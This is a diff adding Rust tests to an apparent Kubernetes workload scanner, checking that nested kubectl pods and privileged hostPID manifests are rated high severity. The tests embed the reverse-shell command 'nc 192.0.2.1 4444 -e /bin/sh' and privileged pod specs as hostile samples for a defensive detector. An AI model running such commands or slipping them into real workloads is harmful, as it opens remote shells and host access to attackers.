@@ -109,3 +109,41 @@ fn text_is_followed_through_files_substitutions_and_tools() {
         assert!(judged(&container).0 < Severity::Medium, "{script}");
     }
 }
+
+/// A script that applies a pod, whose script applies a pod, and so on, the innermost with this command.
+fn nested(levels: usize, innermost: &str) -> serde_json::Value {
+    let mut argv = serde_json::json!(["sh", "-c", innermost]);
+    for _ in 0..levels {
+        let pod = serde_json::json!({"kind": "Pod", "apiVersion": "v1",
+            "spec": {"containers": [{"name": "c", "image": "example.test/x:1", "command": argv}]}});
+        argv = serde_json::json!(["kubectl", "run", "x", format!("--overrides={pod}")]);
+    }
+    argv
+}
+
+#[test]
+fn a_workload_in_a_workload_is_as_severe_as_by_itself_two_deep() {
+    let shell = "nc 192.0.2.1 4444 -e /bin/sh";
+    for (levels, least) in
+        [(0, Severity::High), (1, Severity::High), (2, Severity::High), (3, Severity::None)]
+    {
+        let container = serde_json::json!({"name": "a", "command": nested(levels, shell)}).to_string();
+        assert!(judged(&container).0 >= least, "{levels}");
+        let harmless =
+            serde_json::json!({"name": "a", "command": nested(levels, "/app/migrate")}).to_string();
+        assert!(judged(&harmless).0 <= Severity::Low, "{levels}");
+    }
+}
+
+#[test]
+fn many_manifests_in_one_script_cost_little_and_the_first_ones_count() {
+    let pod = "kubectl apply -f - <<X\nkind: Pod\nspec: {hostPID: true, containers: [{name: c, image: a, \
+               securityContext: {privileged: true}}]}\nX\n";
+    let many: String = (0..1_000).map(|n| pod.replace("image: a", &format!("image: a{n}"))).collect();
+    let container = serde_json::json!({"name": "a", "command": ["sh", "-c", many]}).to_string();
+    assert!(judged(&container).0 >= Severity::High);
+    // Braces that never close, and kinds in them.
+    let open = "{kind ".repeat(20_000);
+    let container = serde_json::json!({"name": "a", "command": ["python3", "-c", open]}).to_string();
+    assert!(judged(&container).0 <= Severity::Low);
+}
